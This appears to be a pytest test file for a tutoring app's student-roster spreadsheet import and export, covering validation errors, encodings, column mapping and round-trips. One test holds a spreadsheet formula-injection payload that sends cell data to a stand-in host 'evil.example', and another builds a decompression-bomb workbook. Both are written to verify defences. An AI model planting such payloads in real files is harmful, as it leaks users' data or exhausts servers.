"""Roster import (.xlsx / .csv) with per-row Chinese errors and all-or-nothing; .xlsx exports."""

import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from xgapp.students import cells, transfer
from xgapp.students.models import Student
from tests.conftest import csrf_from, login, make_user
from tests.factories import advisor, make_contract, make_student

HEADER = transfer.COLUMNS


def _xlsx(rows, merged=None, formula=False):
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    if merged:
        sheet.merge_cells(merged)
    if formula:
        sheet["D2"] = "=A2&\"小学\""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _row(name="张小明", adv="adv1", mobile="13812345678", **kw):
    row = dict(zip(HEADER, [name, "男", "2015-03-08", "海淀实验小学", "五年级", adv, "热线电话", "张妈妈", "母亲", mobile,
                            "", "是", "否", ""]))
    row.update(kw)
    return [row.get(c, "") for c in HEADER]


def _upload(client, data, filename="roster.xlsx"):
    token = csrf_from(client.get("/students/import").get_data(as_text=True))
    return client.post("/students/import", data={"csrf_token": token, "file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


def test_template_has_the_columns_and_a_valid_example(app):
    advisor("advisor1")
    sheet = load_workbook(io.BytesIO(transfer.template())).active
    assert [c.value for c in sheet[1]] == HEADER
    parsed, errors = transfer.parse("t.xlsx", transfer.template())
    assert errors == {} and parsed[0][1]["name"] == "张小明"


def test_each_bad_row_is_reported_in_chinese_and_nothing_is_imported(app):
    advisor("adv1")
    make_student(name="老学员", mobile="13900000000")
    data = _xlsx([_row(), _row("李四", mobile="12345"), _row("王五", adv="nobody", mobile="13811112222"),
                  _row("赵六", mobile="13900000000"), _row("钱七", mobile="13812345678"),
                  _row("孙八", mobile="13833334444", **{"年级": "大一"})])
    with app.test_request_context():  # messages in the campus language, as a user sees them
        parsed, errors = transfer.parse("r.xlsx", data)
    assert sorted(errors) == [3, 4, 5, 6, 7]
    assert errors[3] == ["手机号“12345”不是 11 位大陆手机号。"]
    assert errors[4] == ["找不到学管师“nobody”。"]
    assert errors[5] == ["手机号 13900000000 已登记（重复家庭）。"]
    assert errors[6] == ["手机号 13812345678 与第 2 行重复。"]
    assert errors[7] == ["未知的年级“大一”。"]
    assert Student.select().count() == 1


@pytest.mark.parametrize("kind", ["columns", "too_many", "not_excel", "broken_xml"])
def test_malformed_workbooks_give_a_clear_report(app, kind):
    advisor("adv1")
    if kind == "columns":
        book = Workbook()
        book.active.append(["名字", "电话"])
        out = io.BytesIO()
        book.save(out)
        data = out.getvalue()
    elif kind == "too_many":
        data = _xlsx([_row("学生%d" % i, mobile="138%08d" % i) for i in range(10000)])
    elif kind == "broken_xml":  # a real zip whose sheet XML is cut off
        import zipfile

        good, out = zipfile.ZipFile(io.BytesIO(_xlsx([_row()]))), io.BytesIO()
        with zipfile.ZipFile(out, "w") as bad:
            for item in good.infolist():
                body = good.read(item)
                bad.writestr(item, body[: len(body) // 2] if item.filename.endswith("sheet1.xml") else body)
        data = out.getvalue()
    else:
        data = b"PK\x03\x04 definitely not a workbook"
    with pytest.raises(transfer.ImportProblem) as caught, app.test_request_context():
        transfer.parse("r.xlsx", data)
    message = str(caught.value)
    expected = {"columns": "缺少", "too_many": "10000", "not_excel": ".xlsx", "broken_xml": ".xlsx"}[kind]
    assert expected in message, message
    assert Student.select().count() == 0


def test_merged_cells_and_formulas_in_a_students_row_are_that_rows_problems(app):
    advisor("adv1")
    with app.test_request_context():
        _parsed, errors = transfer.parse("r.xlsx", _xlsx([_row(), _row("李四", mobile="13811112222")], merged="A2:A3"))
        assert [(p.column, p) for p in errors[3]][:1] == [("姓名", "与上一行合并了单元格（A2:A3）：请取消合并，并在每一行填写。")]
        _parsed, errors = transfer.parse("r.xlsx", _xlsx([_row()], formula=True))
    assert errors[2][0].column == "学校" and "D2" in errors[2][0] and "公式" in errors[2][0]
    assert Student.select().count() == 0


def test_import_over_http_previews_then_imports_all(app, client):
    advisor("adv1")
    make_user("sup", roles=("supervisor",))
    login(client, "sup")
    data = _xlsx([_row(), _row("李四", mobile="13811112222")])
    response = _upload(client, data)
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "2 名学员可以导入" in html and Student.select().count() == 0
    token = html.split('name="token" value="')[1].split('"')[0]
    response = client.post("/students/import/confirm", data={"csrf_token": csrf_from(html), "token": token})
    assert response.status_code == 303
    assert sorted(s.name for s in Student.select()) == ["张小明", "李四"]


def test_csv_in_gbk_is_accepted(app):
    advisor("adv1")
    text = ",".join(HEADER) + "\n" + ",".join(_row()) + "\n"
    parsed, errors = transfer.parse("r.csv", text.encode("gb18030"))
    assert errors == {} and parsed[0][1]["name"] == "张小明"


def test_a_damaged_csv_is_a_clear_report(app):
    text = ",".join(HEADER) + "\n" + "\"" + "长" * 200_000 + "\n"  # an unclosed quote swallows the rest
    with pytest.raises(transfer.ImportProblem) as caught, app.test_request_context():
        transfer.parse("r.csv", text.encode("utf-8"))
    assert "CSV" in str(caught.value) and "第 2 行" in str(caught.value)


def test_import_with_errors_over_http_is_422(app, client):
    advisor("adv1")
    make_user("sup", roles=("supervisor",))
    login(client, "sup")
    response = _upload(client, _xlsx([_row(mobile="123")]))
    assert response.status_code == 422 and "没有导入任何数据" in response.get_data(as_text=True)


def test_advisors_cannot_import(login_as):
    assert login_as("advisor").get("/students/import").status_code == 403


def test_exports_are_real_workbooks(app, client):
    student = make_student(name="导出生", advisor_user=advisor("adv1"))
    make_contract(student, hours="10", unit_price="100")
    login(client)
    response = client.get("/students/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [c.value for c in sheet[2]][:1] == ["导出生"]
    response = client.get("/contracts/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet["B2"].value == "导出生" and float(sheet["I2"].value) == 1000.0


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_errors_after_a_blank_row_name_the_row_excel_shows(app, kind):
    advisor("adv1")
    rows = [_row(), ["" for _ in HEADER], _row("李四", mobile="12345")]  # the bad child is on row 4 in Excel
    if kind == "xlsx":
        data, name = _xlsx(rows), "r.xlsx"
    else:
        data = "\n".join(",".join(r) for r in [HEADER] + rows).encode("utf-8")
        name = "r.csv"
    with app.test_request_context():
        parsed, errors = transfer.parse(name, data)
    assert list(errors) == [4] and "12345" in errors[4][0]
    assert [number for number, _data, _guardians in parsed] == [2]


def _rezip(data, replace):
    """The workbook `data` with some parts' XML replaced: {name: bytes or function(old bytes) -> bytes}."""
    import zipfile

    good, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bad:
        for item in good.infolist():
            body = good.read(item)
            change = replace.get(item.filename)
            bad.writestr(item.filename, change(body) if callable(change) else change if change else body)
        for name in set(replace) - set(good.namelist()):
            bad.writestr(name, replace[name])
    return out.getvalue()


def test_a_workbook_unpacking_huge_is_refused_before_it_is_parsed(app, monkeypatch):
    import openpyxl

    advisor("adv1")
    huge = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
            b'main" count="1" uniqueCount="1"><si><t>' + b"x" * (60 << 20) + b"</t></si></sst>")
    data = _rezip(_xlsx([_row()]), {"xl/sharedStrings.xml": huge})
    assert len(data) < 1 << 20  # a small upload
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: pytest.fail("parsed before the size check"))
    with pytest.raises(transfer.ImportProblem) as caught, app.test_request_context():
        transfer.parse("r.xlsx", data)
    assert "解压后超过 40 MB" in str(caught.value), str(caught.value)


def test_a_sheet_with_more_rows_than_it_declares_is_refused_while_it_is_read(app, monkeypatch):
    from openpyxl import Workbook as Book
    from openpyxl.worksheet import _reader

    advisor("adv1")
    book = Book(write_only=True)
    sheet = book.create_sheet()
    sheet.append(HEADER)
    for i in range(6000):
        sheet.append(_row("学生%d" % i, mobile="138%08d" % i))
    out = io.BytesIO()
    book.save(out)
    lie = _rezip(out.getvalue(), {"xl/worksheets/sheet1.xml": lambda body: body.replace(
        b'<dimension ref="A1:N6001"/>', b'<dimension ref="A1:N2"/>')})
    read, parse = [], _reader.WorkSheetParser.parse

    def counting(self):
        for row in parse(self):
            read.append(row[0])
            yield row

    monkeypatch.setattr(_reader.WorkSheetParser, "parse", counting)
    with pytest.raises(transfer.ImportProblem) as caught, app.test_request_context():
        transfer.parse("r.xlsx", lie)
    assert "5000" in str(caught.value) and Student.select().count() == 0
    assert len(read) < 5100  # refused as soon as the limit was passed, not after reading all 6001 rows


def _campus_roster():
    """A roster as a campus keeps it: a merged title row, its own headers, values written many ways, a totals row."""
    book = Workbook()
    sheet = book.active
    sheet.append(["2026年秋季在读学员花名册"])
    sheet.merge_cells("A1:I1")
    sheet.append(["序号", "学生姓名", "性别", "出生日期", "就读学校", "年级", "家长姓名", "联系电话", "学管师"])
    sheet.append([1, "王小红", "女", "2016年5月8日", "海淀实验小学", "四年级", "王妈妈", "１３８１２３４５６７８", "adv1"])
    sheet.append([2, "李小刚", "男", 42498, "中关村一小", "4年级", "李爸爸", "138 1111 2222", None])
    sheet.append([3, "赵小雨", "女", datetime(2016, 5, 8), "中关村一小", "四年级", "赵奶奶", "+86-138-3333-4444", "adv1"])
    sheet.append([4, "孙小海", "男", "2016.5.8", "中关村二小", "四年级", "孙爷爷", "13844445555", "adv1"])
    sheet.append([None, "合计", None, None, None, None, None, None, "=COUNTA(B3:B6)"])
    sheet["D4"].number_format = "0"  # a date serial shown as a number, as after a copy from another system
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_campus_roster_imports_as_the_campus_keeps_it(app):
    advisor("adv1")
    adv2 = advisor("adv2")
    with app.test_request_context():
        p = transfer.preview("花名册.xlsx", _campus_roster(), advisor_id=adv2.id)
    assert (p.header_row, p.title_rows, p.total_rows) == (2, [1], [7])
    assert {c.header: c.field for c in p.columns} == {
        "序号": "", "学生姓名": "name", "性别": "gender", "出生日期": "birthday", "就读学校": "school",
        "年级": "grade", "家长姓名": "guardian", "联系电话": "mobile", "学管师": "advisor"}
    assert p.errors == {} and p.ready
    rows = {data["name"]: (data, guardians[0]) for _n, data, guardians in p.parsed}
    assert {name: data["birthday"] for name, (data, _g) in rows.items()} == dict.fromkeys(rows, date(2016, 5, 8))
    assert [g["mobile"] for _d, g in rows.values()] == ["13812345678", "13811112222", "13833334444", "13844445555"]
    assert [g["relation"] for _d, g in rows.values()] == ["母亲", "父亲", "奶奶", "爷爷"]
    assert rows["李小刚"][0]["advisor"] == adv2 and rows["王小红"][0]["advisor"].username == "adv1"
    assert rows["李小刚"][0]["grade"] == "四年级"


def test_a_missing_advisor_is_a_problem_until_one_is_chosen_for_the_import(app):
    advisor("adv1")
    with app.test_request_context():
        p = transfer.preview("花名册.xlsx", _campus_roster())
    assert list(p.errors) == [4] and p.errors[4][0].column == "学管师" and "为空" in p.errors[4][0]
    assert not p.ready


def test_every_problem_is_reported_at_once_with_excel_row_and_column(app):
    advisor("adv1")
    book = Workbook()
    sheet = book.active
    sheet.append(["学员花名册"])
    sheet.append(["姓名", "家长姓名", "联系电话", "出生日期", "学管师", "关系", "年级"])
    sheet.append(["王小红", "王女士", "1381234", "2016年13月8日", "nobody", "阿姨", "大一"])
    sheet.append(["", "李先生", "13811112222", "", "adv1", "父亲", "四年级"])
    out = io.BytesIO()
    book.save(out)
    with app.test_request_context():
        p = transfer.preview("r.xlsx", out.getvalue())
    assert {row: [(x.column, x) for x in problems] for row, problems in p.errors.items()} == {
        3: [("联系电话", "手机号“1381234”不是 11 位大陆手机号。"),  # in the order of the sheet's columns
            ("出生日期", "出生日期“2016年13月8日”不是 2015-03-08 这样的日期。"), ("学管师", "找不到学管师“nobody”。"),
            ("关系", "关系必须是以下之一：父亲、母亲、爷爷、奶奶、外公、外婆、其他。"), ("年级", "未知的年级“大一”。")],
        4: [("姓名", "“姓名”为空。")]}


def _sheet(*rows):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _token(html):
    return html.split('name="token" value="')[1].split('"')[0]


def test_columns_are_mapped_once_on_the_preview_and_remembered_for_the_next_import(app, client):
    from xgapp.audit.models import AuditLog
    from xgapp.campus.models import CampusRule

    advisor("adv1")
    make_user("sup", roles=("supervisor",))
    login(client, "sup")
    data = _sheet(["姓名", "家长姓名", "号码", "学管师", "关系"], ["王小红", "王女士", "13812345678", "adv1", "母亲"])
    response = _upload(client, data)
    html = response.get_data(as_text=True)
    assert response.status_code == 422 and "表中缺少这些列：手机" in html and Student.select().count() == 0
    form = {"csrf_token": csrf_from(html), "token": _token(html), "columns": "1", "col-0": "name", "col-1": "guardian",
            "col-2": "mobile", "col-3": "advisor", "col-4": "relation"}
    response = client.post("/students/import/confirm", data=dict(form, action="check"))
    assert response.status_code == 200 and "1 名学员可以导入" in response.get_data(as_text=True)
    response = client.post("/students/import/confirm", data=dict(form, action="import"))
    assert response.status_code == 303 and [s.name for s in Student.select()] == ["王小红"]
    assert CampusRule.get(CampusRule.name == "import:号码").value == "mobile"
    assert AuditLog.select().where(AuditLog.table == "campus_rule", AuditLog.record_id == "import:号码").count() == 1
    assert AuditLog.select().where(AuditLog.action == "import", AuditLog.table == "student").count() == 1
    response = _upload(client, _sheet(["姓名", "家长姓名", "号码", "学管师", "关系"],
                                      ["李小刚", "李先生", "13811112222", "adv1", "父亲"]))
    assert response.status_code == 200 and "1 名学员可以导入" in response.get_data(as_text=True)


def test_two_columns_cannot_both_be_the_same_field(app):
    advisor("adv1")
    data = _sheet(["姓名", "家长姓名", "手机", "学管师", "电话"], ["王小红", "王妈妈", "13812345678", "adv1", "010-1234"])
    with app.test_request_context():
        p = transfer.preview("r.xlsx", data, mapping={0: "name", 1: "guardian", 2: "mobile", 3: "advisor", 4: "mobile"})
    assert p.columns[4].problem == "C 列已经导入为“手机”。" and not p.ready


def test_a_name_already_on_file_is_flagged_with_a_choice_per_row(app, client):
    advisor("adv1")
    make_student(name="张小明", mobile="13900000000")
    make_user("sup", roles=("supervisor",))
    login(client, "sup")
    data = _xlsx([_row("张小明", mobile="13811112222"), _row("李四", mobile="13822223333")])
    response = _upload(client, data)
    html = response.get_data(as_text=True)
    assert response.status_code == 422 and "可能重复或是兄弟姐妹" in html and 'name="dup-2"' in html
    form = {"csrf_token": csrf_from(html), "token": _token(html), "columns": "1"}
    form.update({"col-%d" % i: key for i, key in enumerate(f.key for f in transfer.FIELDS)})
    response = client.post("/students/import/confirm", data=dict(form, action="import"))
    assert response.status_code == 422 and "请选择：作为新学员导入，或跳过这一行。" in response.get_data(as_text=True)
    assert Student.select().count() == 1
    response = client.post("/students/import/confirm", data=dict(form, action="import", **{"dup-2": "skip"}))
    assert response.status_code == 303 and sorted(s.name for s in Student.select()) == ["张小明", "李四"]
    with app.test_request_context():
        p = transfer.preview("r.xlsx", _xlsx([_row("张小明", mobile="13833334444")]), choices={2: "new"})
    assert p.ready and [data["name"] for _n, data, _g in p.parsed] == ["张小明"]


def test_what_the_app_exports_imports_back(app, client):
    """Every guardian of a family, dates as dates, the status: the export imports back into an empty campus."""
    from xgapp.students import domain
    from xgapp.students.models import Guardian, StatusChange

    adv = advisor("adv1")
    make_student(name="导出生", advisor_user=adv, mobile="13812345678", birthday=date(2015, 3, 8))
    domain.create(None, {"name": "三口之家", "school": "海淀实验小学", "grade": "五年级", "source": "hotline",
                         "advisor": adv}, [
        {"name": "李妈妈", "relation": "母亲", "mobile": "13900000001", "can_pickup": True},
        {"name": "李爸爸", "relation": "父亲", "mobile": "13900000002", "wechat": "lbb", "can_pickup": False},
        {"name": "李奶奶", "relation": "奶奶", "mobile": "13900000003", "can_pickup": True}])
    make_user("sup", roles=("supervisor",))
    login(client, "sup")
    exported = client.get("/students/export.xlsx").data
    sheet = load_workbook(io.BytesIO(exported)).active
    header = [c.value for c in sheet[1]]
    assert header[-1] == "状态" and "监护人2姓名" in header and "手机3" in header
    by_name = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert by_name["导出生"][header.index("出生日期")].is_date  # a date cell, not text
    family = by_name["三口之家"]
    assert [family[header.index(h)].value for h in ("监护人姓名", "监护人2姓名", "手机2", "可接送2", "监护人3姓名")] == [
        "李妈妈", "李爸爸", "13900000002", "否", "李奶奶"]
    for model in (Guardian, StatusChange, Student):
        model.delete().execute()
    with app.test_request_context():
        parsed, errors = transfer.parse("学员.xlsx", exported)
    assert errors == {}
    assert sorted((d["name"], d["birthday"] and d["birthday"].isoformat(), [(g["name"], g["relation"], g["mobile"],
                                                                           g["can_pickup"]) for g in gs])
                  for _n, d, gs in parsed) == [
        ("三口之家", None, [("李妈妈", "母亲", "13900000001", True), ("李爸爸", "父亲", "13900000002", False),
                        ("李奶奶", "奶奶", "13900000003", True)]),
        ("导出生", "2015-03-08", [("导妈妈", "母亲", "13812345678", True)])]


def test_a_second_guardian_without_a_mobile_is_that_rows_problem(app):
    book = Workbook()
    sheet = book.active
    sheet.append(["姓名", "学管师", "监护人姓名", "关系", "手机", "监护人2姓名", "手机2"])
    sheet.append(["王小二", "adv1", "王妈妈", "母亲", "13812345678", "王爸爸", None])
    buffer = io.BytesIO()
    book.save(buffer)
    advisor("adv1")
    with app.test_request_context():
        parsed, errors = transfer.parse("学员.xlsx", buffer.getvalue())
    assert parsed == [] and [(p.column, str(p)) for p in errors[2]] == [("手机2", "“手机2”为空。")]


@pytest.mark.parametrize("written", ["13812345678", "１３８１２３４５６７８", "138 1234 5678", "138-1234-5678",
                                     "+86 138 1234 5678", "+86-13812345678", "0086 13812345678", "86 13812345678", 13812345678,
                                     13812345678.0])
def test_a_mobile_is_read_the_usual_ways(written):
    assert cells.mobile(written) == "13812345678"


@pytest.mark.parametrize("written", ["2016-05-08", "2016/5/8", "2016.5.8", "2016年5月8日", "2016 年 5 月 8 日", "20160508",
                                     "２０１６－０５－０８", 42498, 42498.0, "42498", "2016-05-08 00:00:00",
                                     datetime(2016, 5, 8), date(2016, 5, 8)])
def test_a_birthday_is_read_the_usual_ways(written):
    assert cells.birthday(written) == date(2016, 5, 8)


@pytest.mark.parametrize("written", ["2016-13-08", "2016年2月30日", "明年", "5/8/2016"])
def test_a_birthday_that_is_no_date_is_refused(written):
    with pytest.raises(ValueError):
        cells.birthday(written)


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_text_that_looks_like_a_formula_is_exported_as_text(app, client):
    student = make_student(name="导出生", school=HYPERLINK, notes="@SUM(1+1)", advisor_user=advisor("adv1"))
    make_contract(student, subject="-数学", hours="10", unit_price="100")
    login(client)
    sheet = load_workbook(io.BytesIO(client.get("/students/export.xlsx").data)).active
    school, notes = sheet.cell(2, HEADER.index("学校") + 1), sheet.cell(2, HEADER.index("备注") + 1)
    assert (school.value, school.data_type) == (HYPERLINK, "s") and school.quotePrefix
    assert (notes.value, notes.data_type) == ("@SUM(1+1)", "s") and notes.quotePrefix
    sheet = load_workbook(io.BytesIO(client.get("/contracts/export.xlsx").data)).active
    assert (sheet["D2"].value, sheet["D2"].data_type) == ("-数学", "s")
    assert sheet["I2"].data_type == "n"  # numbers stay numbers


def test_the_workbook_helper_keeps_numbers_and_dates_and_drops_control_characters(app):
    from datetime import date
    from decimal import Decimal

    from xgapp import sheets

    book = sheets.workbook()
    sheets.append(book.active, ["=1+1", "+86 138", "铃\x07声", Decimal("12.50"), 3, date(2026, 12, 2), None, "普通"])
    row = load_workbook(io.BytesIO(sheets.saved(book))).active[1]
    assert [(c.value, c.data_type) for c in row[:3]] == [("=1+1", "s"), ("+86 138", "s"), ("铃〔U+0007〕声", "s")]
    assert [c.data_type for c in row[3:6]] == ["n", "n", "d"] and row[6].value is None and not row[7].quotePrefix
    book = sheets.workbook()
    book.active["A1"] = "=2+2"  # written past the helper: still saved as text
    cell = load_workbook(io.BytesIO(sheets.saved(book))).active["A1"]
    assert (cell.value, cell.data_type) == ("=2+2", "s")


def test_every_workbook_the_app_writes_goes_through_the_shared_helper():
    from pathlib import Path

    import xgapp

    root = Path(xgapp.__file__).parent
    bypass = [str(path.relative_to(root)) for path in root.rglob("*.py")
              if path.name != "sheets.py" and "Workbook" in path.read_text(encoding="utf-8")]
    assert bypass == []  # a new .xlsx writer uses sheets.workbook() / append() / saved()
